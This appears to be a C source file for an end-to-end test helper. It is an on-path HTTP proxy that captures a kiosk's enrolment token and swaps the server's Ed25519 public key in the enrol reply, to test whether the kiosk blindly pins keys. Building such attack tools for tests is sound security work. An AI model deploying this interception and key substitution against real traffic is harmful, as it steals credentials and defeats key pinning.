/*
 * keyswap: an on-path attacker for tests/e2e/enroll_mitm.sh (issue 9,
 * item 6).  A plain-HTTP proxy that relays each request to the sync
 * server and, in the answer to POST /v1/enroll, replaces the server's
 * Ed25519 public key (map key 2, a 32-byte string) with its own, so that
 * a kiosk that pins what it is given pins the attacker's key; it prints
 * the token it saw, as a thief would keep it.
 *
 *   keyswap --listen ADDR:PORT --target ADDR:PORT [--port-file F]
 *           [--pass]                 (relay without swapping: the control)
 *
 * One connection at a time, one request after another on it, each
 * relayed on a fresh connection to the target (Content-Length bodies
 * only, as the kiosk and the server send).  Lines on stdout:
 * "token SECRET" for each enrolment seen, "swapped" when the key was
 * replaced.
 */
#define LOG_MODULE "keyswap"

#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>
#include <sys/socket.h>
#include <unistd.h>

#include "buf.h"
#include "cborx.h"
#include "crypto.h"
#include "fileio.h"
#include "net.h"
#include "protocol.h"

#define KS_MAX (1024 * 1024)

/* Read one HTTP message (headers and a Content-Length body) into B.
 * 0, or EOF/EIO; *HDR_LEN is where the body starts. */
static int
ks_read_msg(int fd, struct buf *b, size_t *hdr_len)
{
	char chunk[4096], *end, *cl;
	size_t want = 0;
	ssize_t n;

	for (;;) {
		if (b->len > 0 &&
		    (end = memmem(b->data, b->len, "\r\n\r\n", 4))) {
			*hdr_len = (size_t)(end - (char *)b->data) + 4;
			if (want == 0) {
				buf_append_byte(b, '\0');
				b->len--;
				cl = strcasestr(
				    (char *)b->data, "\r\ncontent-length:");
				want = *hdr_len +
				    (cl != NULL && cl < end
				            ? strtoul(cl + 17, NULL, 10)
				            : 0);
			}
			if (b->len >= want)
				return 0;
		}
		if ((n = read(fd, chunk, sizeof(chunk))) <= 0)
			return b->len == 0 && n == 0 ? EOF : EIO;
		if (buf_append(b, chunk, (size_t)n) != 0)
			return EIO;
	}
}

static int
ks_write_all(int fd, const void *p, size_t len)
{
	const char *c = p;
	ssize_t n;

	while (len > 0) {
		if ((n = write(fd, c, len)) <= 0)
			return EIO;
		c += n;
		len -= (size_t)n;
	}
	return 0;
}

/* The enrolment's token, printed as the attacker would keep it. */
static void
ks_note_token(const uint8_t *body, size_t len)
{
	cbor_item_t *it = NULL;
	char *tok = NULL;

	if (cborx_decode(body, len, len, &it) == 0 &&
	    cborx_map_text(it, ENROLL_K_TOKEN, 200, &tok) == 0)
		printf("token %s\n", tok);
	fflush(stdout);
	free(tok);
	if (it != NULL)
		cbor_decref(&it);
}

/* Replace the 32 bytes after map key ENROLLED_K_SERVER_PUB (0x02, then
 * a byte string of 32: 0x58 0x20) with ATTACKER.  1 when done. */
static int
ks_swap_key(uint8_t *body, size_t len, const uint8_t attacker[32])
{
	size_t i;

	for (i = 0; i + 3 + 32 <= len; i++)
		if (body[i] == ENROLLED_K_SERVER_PUB && body[i + 1] == 0x58 &&
		    body[i + 2] == 0x20) {
			memcpy(body + i + 3, attacker, 32);
			return 1;
		}
	return 0;
}

static void
ks_serve(int cfd, const struct sockaddr_in *target, int pass,
    const uint8_t attacker[32])
{
	struct buf req, rsp;
	size_t hlen, rhlen;
	int sfd, enroll;

	for (;;) {
		buf_init(&req, KS_MAX);
		buf_init(&rsp, KS_MAX);
		if (ks_read_msg(cfd, &req, &hlen) != 0)
			break;
		enroll = req.len > 5 &&
		    memmem(req.data, hlen, PROTO_PATH_ENROLL " ",
		        strlen(PROTO_PATH_ENROLL) + 1) != NULL;
		if (enroll)
			ks_note_token(req.data + hlen, req.len - hlen);
		sfd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
		if (sfd == -1 ||
		    connect(sfd, (const struct sockaddr *)target,
		        sizeof(*target)) != 0 ||
		    ks_write_all(sfd, req.data, req.len) != 0 ||
		    ks_read_msg(sfd, &rsp, &rhlen) != 0) {
			if (sfd != -1)
				close(sfd);
			break;
		}
		close(sfd);
		if (enroll && !pass &&
		    ks_swap_key(rsp.data + rhlen, rsp.len - rhlen, attacker)) {
			printf("swapped\n");
			fflush(stdout);
		}
		if (ks_write_all(cfd, rsp.data, rsp.len) != 0)
			break;
		buf_free(&req);
		buf_free(&rsp);
	}
	buf_free(&req);
	buf_free(&rsp);
	close(cfd);
}

int
main(int argc, char **argv)
{
	struct sockaddr_in listen_sa, target, sa;
	const char *port_file = NULL;
	uint8_t priv[32], attacker[32];
	socklen_t salen;
	int i, lfd, cfd, one = 1, pass = 0, have_l = 0, have_t = 0;

	for (i = 1; i < argc; i++) {
		if (strcmp(argv[i], "--pass") == 0)
			pass = 1;
		else if (i + 1 < argc && strcmp(argv[i], "--listen") == 0)
			have_l = net_parse_addr(argv[++i], &listen_sa) == 0;
		else if (i + 1 < argc && strcmp(argv[i], "--target") == 0)
			have_t = net_parse_addr(argv[++i], &target) == 0;
		else if (i + 1 < argc && strcmp(argv[i], "--port-file") == 0)
			port_file = argv[++i];
		else
			have_l = 0;
	}
	if (!have_l || !have_t) {
		fprintf(stderr,
		    "usage: keyswap --listen ADDR:PORT --target "
		    "ADDR:PORT [--port-file F] [--pass]\n");
		return 2;
	}
	/* The attacker's own key pair: it could sign forged answers. */
	crypto_ed25519_keygen(priv, attacker);
	signal(SIGPIPE, SIG_IGN);
	if ((lfd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0)) == -1 ||
	    setsockopt(lfd, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one)) != 0 ||
	    bind(lfd, (struct sockaddr *)&listen_sa, sizeof(listen_sa)) != 0 ||
	    listen(lfd, 16) != 0) {
		perror("keyswap: listen");
		return 1;
	}
	salen = sizeof(sa);
	getsockname(lfd, (struct sockaddr *)&sa, &salen);
	if (port_file != NULL) {
		char line[16];
		int len =
		    snprintf(line, sizeof(line), "%u\n", ntohs(sa.sin_port));

		if (fileio_write_atomic(port_file, line, (size_t)len, 0644) !=
		    0)
			return 1;
	}
	for (;;) {
		if ((cfd = accept4(lfd, NULL, NULL, SOCK_CLOEXEC)) == -1) {
			if (errno == EINTR || errno == ECONNABORTED)
				continue;
			perror("keyswap: accept");
			return 1;
		}
		ks_serve(cfd, &target, pass, attacker);
	}
}
